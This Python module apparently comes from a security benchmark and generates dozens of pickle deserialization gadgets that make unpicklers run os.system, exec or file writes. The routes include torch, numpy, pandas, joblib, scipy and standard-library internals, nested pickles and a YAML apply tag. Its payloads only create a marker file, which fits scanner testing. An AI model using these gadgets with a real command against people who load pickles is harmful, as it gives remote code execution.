"""Ways to make an unpickler write a file, gathered from the installed libraries: each harmless, each a real trick.

for gadget in gadgets(Path("drop")):        # everything that they write lies in this folder
    gadget.name, gadget.payload
"""

from __future__ import annotations

import gzip
import io
import marshal
import pickle
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from bench.adversarial_calls import CALLS
from bench.adversarial_opcodes import Call, Make, Name, Pair, Spelling, State, spelled


@dataclass(frozen=True)
class Gadget:
    """A payload, and what it is called in the report."""

    name: str
    payload: Any


def gadgets(drop: Path) -> list[Gadget]:
    """All of them. Each writes below `drop`, which must be there and empty."""
    out = str(drop / "marker")
    command = f"touch {out}"
    code = f"open({out!r}, 'w').close()"
    system = Call(Name("os", "system"), (command,))
    found = [Gadget(*_entry(line, out, command, code)) for line in CALLS.strip().splitlines()]
    made = {**_chains(out, command, code), **_nested(drop, system), **_objects(out, command, code)}
    return found + [Gadget(name, payload) for name, payload in made.items()]


def _entry(line: str, out: str, command: str, code: str) -> tuple[str, Any]:
    target, _, arguments = line.partition(" ")
    folder = str(Path(out).parent)
    script = str(Path(out).parent.parent / "script.py")
    known: dict[str, Any] = {
        "out": out, "command": command, "code": code, "folder": folder, "script": script, "source_local": "local",
        "compiled": code, "query": f"__import__('os').system({command!r})",
        "source": f"def forward(self):\n {code}\n{code}",
        "yaml": f"!!python/object/apply:os.system [{command!r}]", "pickled": str(Path(script).with_name("nested.pkl")),
        "payload": spelled(Call(Name("os", "system"), (command,)), Spelling()),
        "builtins": None,
    }  # fmt: skip
    for inner in ("builtins:exec", "numpy:memmap"):
        arguments = arguments.replace(inner, f"NAME({inner!r})")
    for inner in ("_xxsubinterpreters:create", "_interpreters:create", "networkx:Graph", "numpy:zeros",
                  "scipy.sparse:csr_matrix"):  # fmt: skip
        arguments = arguments.replace(f"{inner}(", f"CALL({inner!r}, ")
    known["NAME"] = _name
    known["CALL"] = lambda target, *given: Call(_name(target), given)
    values = eval(f"({arguments[1:-1]},)" if arguments != "()" else "()", {"__builtins__": {}}, known)
    return target.replace(":", "."), Call(_name(target), values)


def _name(target: str) -> Name:
    module, _, name = target.partition(":")
    return Name(module, name)


def _chains(out: str, command: str, code: str) -> dict[str, Any]:
    """Payloads of several steps: what is called is itself the result of a call, or is called by something harmless."""
    system, execute, write = Name("os", "system"), Name("builtins", "exec"), Name("distutils.file_util", "write_file")
    os_module = Call(Name("importlib", "import_module"), ("os",))
    getter = Call(Name("builtins", "getattr"), (os_module, "system"))
    numpy_function = Name("numpy._core.multiarray", "_reconstruct")
    space = Call(Name("builtins", "getattr"), (numpy_function, "__globals__"))
    body = marshal.dumps(compile(code, "<payload>", "exec"))
    function = Call(
        Name("types", "FunctionType"), (Call(Name("marshal", "loads"), (body,)), {"open": Name("builtins", "open")})
    )
    mapped = Call(Name("builtins", "map"), (system, [command]))
    partial = Call(Name("functools", "partial"), (system, command))
    written = Call(Name("builtins", "map"), (write, [out], [[]]))
    path = Call(Name("pathlib", "PosixPath"), (out,))
    ufunc = Call(Name("numpy.core", "_ufunc_reconstruct"), ("os", "system"))
    return {
        "getattr on a module": Call(getter, (command,)),
        "attrgetter": Call(Call(Name("operator", "attrgetter"), ("system",)), (Name("posixpath", "os"),)),
        "methodcaller": Call(Call(Name("operator", "methodcaller"), ("system", command)), (Name("posixpath", "os"),)),
        "globals of a function": Call(Call(Name("operator", "itemgetter"), ("exec",)), (space,)),
        "function from marshal": Call(function),
        "partial": Call(partial),
        "partial in a default": Call(Name("collections", "defaultdict"), (partial,)),
        "map drawn by list": Call(Name("builtins", "list"), (mapped,)),
        "map drawn by set": Call(Name("builtins", "set"), (mapped,)),
        "map drawn by deque": Call(Name("collections", "deque"), (written,)),
        "map drawn by tuple": Make(Name("builtins", "tuple"), (mapped,)),
        "map drawn by bytes": Make(Name("builtins", "bytes"), (mapped,)),
        "map drawn by OrderedDict": Call(Name("collections", "OrderedDict"), (mapped,)),
        "map drawn by Counter": Call(Name("collections", "Counter"), (written,)),
        "starmap": Call(Name("collections", "deque"), (Call(Name("itertools", "starmap"), (write, [(out, [])])),)),
        "filter": Call(Name("builtins", "list"), (Call(Name("builtins", "filter"), (system, [command])),)),
        "max with a key": Call(Name("builtins", "max"), ([out, out],)),
        "reduce": Call(Name("functools", "reduce"), (write, [out, []])),
        "singledispatch": Call(Call(Name("functools", "singledispatch"), (execute,)), (code,)),
        "operator.call": Call(Name("operator", "call"), (system, command)),
        "finalize": Call(Name("weakref", "finalize"), (Call(Name("builtins", "set")), write, out, [])),
        "finalize a command": Call(Name("weakref", "finalize"), (Call(Name("builtins", "set")), system, command)),
        "finalize at a class": Pair(
            Call(Name("weakref", "finalize"), (Call(Name("collections", "UserDict")), write, out, [])), 1
        ),
        "weakref callback": Call(Name("weakref", "ref"), (Call(Name("builtins", "set")), partial)),
        "atexit": Call(Name("atexit", "register"), (write, out, [])),
        "thread": Call(Name("_thread", "start_new_thread"), (write, (out, []))),
        "timer": State(Make(Name("threading", "Timer")), {"interval": 0, "function": system, "args": (command,)}),
        "path touch": Call(Name("pathlib", "Path.touch"), (path,)),
        "path write_bytes": Call(Name("pathlib", "PosixPath.write_bytes"), (path, b"x")),
        "path by getattr": Call(Call(Name("builtins", "getattr"), (path, "touch"))),
        "ufunc": Call(ufunc, (command,)),
        "ufunc old": Call(
            Call(Name("numpy.core._multiarray_umath", "_ufunc_reconstruct"), ("os", "system")), (command,)
        ),
        "rebuild from type": Call(
            Name("torch._tensor", "_rebuild_from_type_v2"), (system, Name("builtins", "int"), (command,), {})
        ),
        "rebuild wrapper": Call(
            Name("torch._utils", "_rebuild_wrapper_subclass"), (system, "f", (1,), (1,), 0, 0, "cpu", False)
        ),
        "torch call": Call(Name("torch.utils._pytree", "tree_map"), (system, [command])),
        "numpy vectorize": Call(Call(Name("numpy", "vectorize"), (system,)), (command,)),
        "apply_along_axis": Call(Name("numpy", "apply_along_axis"), (system, 0, [1])),
        "fromfunction": Call(Name("numpy", "fromfunction"), (write, (1, 1))),
        "frompyfunc": Call(Call(Name("numpy", "frompyfunc"), (execute, 1, 1)), (code,)),
        "pandas pipe": Call(Name("pandas.core.common", "pipe"), (out, write, [])),
        "pandas apply_if_callable": Call(Name("pandas.core.common", "apply_if_callable"), (system, command)),
        "joblib delayed": Call(Call(Name("joblib.parallel", "BatchedCalls"), ([(write, (out, []), {})], "threading"))),
        "sklearn transform": Call(Name("sklearn.pipeline", "_final_estimator_has"), (system,)),
        "BUILD on a function": Pair(State(Name("torch._utils", "_rebuild_tensor_v2"), (None, {"__defaults__": ()})), 1),
        "BUILD on a module": Pair(State(Name("posixpath", "os"), {"environ": {}}), Call(system, (command,))),
        "two names for one": Pair(Name("collections", "OrderedDict"), Call(system, (command,))),
        "copyreg reconstructor": Call(
            Name("copyreg", "_reconstructor"), (Name("io", "FileIO"), Name("builtins", "object"), None)
        ),
        "newobj helper": Call(Name("copyreg", "__newobj__"), (Name("io", "FileIO"), out, "w")),
        "type call": Call(Call(Name("builtins", "type"), ("X", (), {"__del__": partial}))),
        "simple class": Call(Call(Name("types", "new_class"), ("X",))),
        "namedtuple text": Call(Name("collections", "namedtuple"), ("X", f"a=({code})")),
        "dataclass text": Call(Name("dataclasses", "make_dataclass"), ("X", [("a", f"b={code}")])),
        "enum": Call(Name("enum", "Enum"), ("X", {"a": partial})),
        "codec": Call(Name("codecs", "encode"), (code, "exec")),
        "import by codec": Call(Name("_codecs", "lookup"), ("__main__",)),
        "contextvars run": Call(
            Name("contextvars", "Context.run"), (Call(Name("contextvars", "copy_context")), write, out, [])
        ),
    }


def _nested(drop: Path, system: Any) -> dict[str, Any]:
    """Programs inside of programs, as bytes or as a file beside."""
    inner = spelled(system, Spelling(2, "global"))
    array = io.BytesIO(
        b"\x93NUMPY\x01\x00v\x00"
        + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
        + b"\n"
        + inner
    )
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as zipped:
        zipped.writestr("archive/data.pkl", inner)
        zipped.writestr("archive/version", "3\n")
    beside = drop.parent / "nested.pkl"
    beside.write_bytes(inner)
    stream = Call(Name("_io", "BytesIO"), (inner,))
    loads = {
        "pickle": "loads",
        "_pickle": "loads",
        "joblib.externals.cloudpickle": "loads",
        "cloudpickle": "loads",
        "dill": "loads",
        "dill._dill": "loads",
        "multiprocessing.reduction": "ForkingPickler.loads",
        "torch.storage": "_load_from_bytes",
        "joblib.externals.loky.backend.reduction": "loads",
        "shelve": "pickle.loads",
        "joblib.numpy_pickle": "pickle.loads",
        "logging.config": "pickle.loads",
        "pandas.io.pickle": "pickle.loads",
        "torch.multiprocessing.reductions": "ForkingPickler.loads",
        "torch._utils_internal": "pickle.loads",
    }
    files = {
        "pickle": "load",
        "_pickle": "load",
        "pandas": "read_pickle",
        "joblib": "load",
        "numpy": "load",
        "torch": "load",
        "torch.serialization": "_legacy_load",
        "dill": "load",
        "pandas.compat.pickle_compat": "load",
    }
    made: dict[str, Any] = {f"{m}.{n} of bytes": Call(Name(m, n), (inner,)) for m, n in loads.items()}
    made |= {f"{m}.{n} of a stream": Call(Name(m, n), (stream,)) for m, n in files.items()}
    made |= {
        "storage of a zip": Call(Name("torch.storage", "_load_from_bytes"), (held.getvalue(),)),
        "numpy object file": Call(
            Name("numpy.lib.format", "read_array"), (Call(Name("_io", "BytesIO"), (array.getvalue(),)), True)
        ),
        "pickle of a file": Call(Name("pandas", "read_pickle"), (str(beside),)),
        "joblib of a file": Call(Name("joblib.numpy_pickle", "load"), (str(beside),)),
        "a compressed program": Call(
            Name("pickle", "loads"), (Call(Name("gzip", "decompress"), (gzip.compress(inner),)),)
        ),
        "an encoded program": Call(
            Name("torch.storage", "_load_from_bytes"),
            (Call(Name("_codecs", "encode"), (inner.decode("latin1"), "latin1")),),
        ),
        "a machine": Call(Call(Name("_pickle", "Unpickler"), (stream,))),
        "cloudpickled wrapper": Call(
            Name("joblib.externals.loky.cloudpickle_wrapper", "CloudpickledObjectWrapper"), (inner,)
        ),
        "lightgbm handle": State(Make(Name("lightgbm.basic", "Booster")), {"handle": inner}),
        "xgboost handle": State(
            Make(Name("xgboost.core", "Booster")), {"handle": Call(Name("builtins", "bytearray"), (inner,))}
        ),
        "numpy array of objects": State(
            Call(Name("numpy._core.multiarray", "_reconstruct"), (Name("numpy", "ndarray"), (0,), b"b")),
            (1, (1,), Call(Name("numpy", "dtype"), ("O8", False, True)), False, [system]),
        ),
    }
    return made


def _objects(out: str, command: str, code: str) -> dict[str, Any]:
    """Classes of libraries that only get state, and act on it: at once, when they are dropped, or when used."""
    template = f"\n{code}\ndef _parse_args(self, {{}}): pass"
    distribution = State(
        Make(Name("scipy.stats._continuous_distns", "norm_gen")), {"_parse_arg_template": template, "shapes": None}
    )
    frozen = State(Make(Name("scipy.stats._distn_infrastructure", "rv_continuous_frozen")), {"dist": distribution})
    remover = State(Make(Name("numpy.lib._datasource", "DataSource")), {"_istmpdest": True, "_destpath": out})
    module = State(
        Make(Name("torch.nn.modules.linear", "Linear")),
        {"_forward_pre_hooks": {0: Name("os", "system")}, "_parameters": {}, "_modules": {}, "training": True},
    )
    return {
        "distribution template": distribution,
        "frozen distribution": frozen,
        "data source": remover,
        "hooks of a module": module,
        "tempfile closer": State(Make(Name("tempfile", "_TemporaryFileCloser")), {"name": out, "delete": True}),
        "popen state": State(Make(Name("subprocess", "Popen")), {"args": ["touch", out]}),
        "graph module": State(Make(Name("torch.fx.graph_module", "GraphModule")), {"_code": code}),
        "data pipe": State(
            Make(Name("torch.utils.data.datapipes.datapipe", "_DataPipeSerializationWrapper")), pickle.dumps([1])
        ),
        "logger": State(Make(Name("logging", "FileHandler")), {"baseFilename": out, "mode": "w", "delay": True}),
        "memory": State(
            Make(Name("joblib.memory", "MemorizedFunc")), {"func": Name("os", "system"), "store_backend": out}
        ),
        "python partial": State(Make(Name("functools", "partial")), (Name("os", "system"), (command,), {}, {})),
        "exception": State(Make(Name("builtins", "Exception"), (command,)), {"__class__": Name("io", "FileIO")}),
        "simple namespace": State(Call(Name("types", "SimpleNamespace")), {"__class__": Name("os", "system")}),
    }
